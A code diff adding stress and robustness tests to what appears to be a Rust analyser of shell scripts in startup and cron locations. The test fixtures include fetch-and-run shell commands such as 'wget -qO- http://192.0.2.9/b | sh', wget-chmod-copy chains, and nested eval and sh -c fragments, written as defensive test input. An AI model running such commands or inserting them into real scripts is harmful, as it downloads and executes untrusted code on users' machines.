@@ -155,10 +155,102 @@ proptest::proptest! {
     }
 }
 
+/// What is as bad as can be, as long as what is read; what is random four times as long.
+fn hostile() -> Vec<Vec<u8>> {
+    const LENGTH: usize = lenscap_harden::root::MAX_TEXT_BYTES;
+    const SIGNS: &[u8] = b"$(){}`'\"\\<>|&;#\n\0 =.-/aAscdwget";
+    let value = format!("A={}\n", "x".repeat(MAX_WORD));
+    let mut texts: Vec<Vec<u8>> = [
+        "\0",
+        "$(",
+        "`",
+        "(",
+        ")",
+        "'",
+        "\"",
+        "\\",
+        "|",
+        "&>",
+        "<(",
+        "$",
+        "${",
+        "a ",
+        "$A",
+        "$A ",
+        "x\n",
+        "#\0",
+        "sh -c '",
+        "$(sh $(",
+        "cp a b $A ",
+        "/tmp/x;",
+        "wget $A;chmod +x a;",
+        "A=$A$A;",
+        "eval $A;",
+        "wget -O /a/$A x;",
+        ". $(wget x);",
+    ]
+    .iter()
+    .flat_map(|part| {
+        let all = part.repeat(LENGTH / part.len());
+        [
+            all.clone(),
+            format!("{value}{all}"),
+            format!("cp {all}"),
+            format!("eval {all}"),
+            format!("sh -c \"{all}"),
+        ]
+    })
+    .map(String::into_bytes)
+    .collect();
+    let names = |n: usize| {
+        format!("V{n}=/tmp/{n}; wget -O /tmp/{n} http://x/{n}; chmod +x /tmp/{n}; cp /tmp/{n} /{n}\n")
+    };
+    texts.push((0..12_000).map(names).collect::<String>().into_bytes());
+    // Random bytes, and random ones of those that mean something.
+    let (mut random, mut signs) = (Vec::new(), Vec::new());
+    let mut state = 1u32;
+    for _ in 0..4 * LENGTH {
+        state ^= state << 13;
+        state ^= state >> 17;
+        state ^= state << 5;
+        random.push((state >> 8) as u8);
+        signs.push(SIGNS[(state >> 8) as usize % SIGNS.len()]);
+    }
+    texts.extend([random, signs]);
+    texts
+}
+
 #[test]
-fn long_and_deep_scripts_end() {
-    let deep = "$(".repeat(50_000);
-    let _ = look("/x", deep.as_bytes());
-    let long = "A=$A$A; wget -O /tmp/$A http://x; sh -c \"sh -c 'sh /tmp/$A'\"\n".repeat(2000);
-    assert!(look("/x", long.as_bytes()).len() <= MAX_NAMES);
+fn hostile_scripts_end_soon() {
+    for text in hostile() {
+        for path in ["/x", "/etc/crontabs/root"] {
+            let started = std::time::Instant::now();
+            let found = look(path, &text);
+            let shown = String::from_utf8_lossy(&text[..40]).into_owned();
+            // Without optimisation, on a busy machine.
+            assert!(
+                started.elapsed().as_secs() < 20,
+                "{shown}: {:?}",
+                started.elapsed()
+            );
+            assert!(found.len() <= MAX_NAMES + 1, "{shown}");
+        }
+    }
+}
+
+#[test]
+fn what_is_beyond_a_bound_is_doubtful() {
+    let deep = format!(
+        "{}wget -qO- http://192.0.2.9/b | sh{}",
+        "$(".repeat(9),
+        ")".repeat(9)
+    );
+    let many = "x\n".repeat(MAX_COMMANDS) + "wget -qO- http://192.0.2.9/b | sh";
+    let names = (0..=MAX_NAMES).map(|n| format!("V{n}=x\n")).collect();
+    let long = format!("A={}", "x".repeat(MAX_WORD + 1));
+    for text in [deep, many, names, long] {
+        assert_eq!(certain("/etc/init.d/S50x", &text), [false]);
+    }
+    // NUL is nothing to a shell.
+    assert_eq!(certain("/x", "wget -qO- http://192.0.2.9/b |\0 s\0h"), [true]);
 }
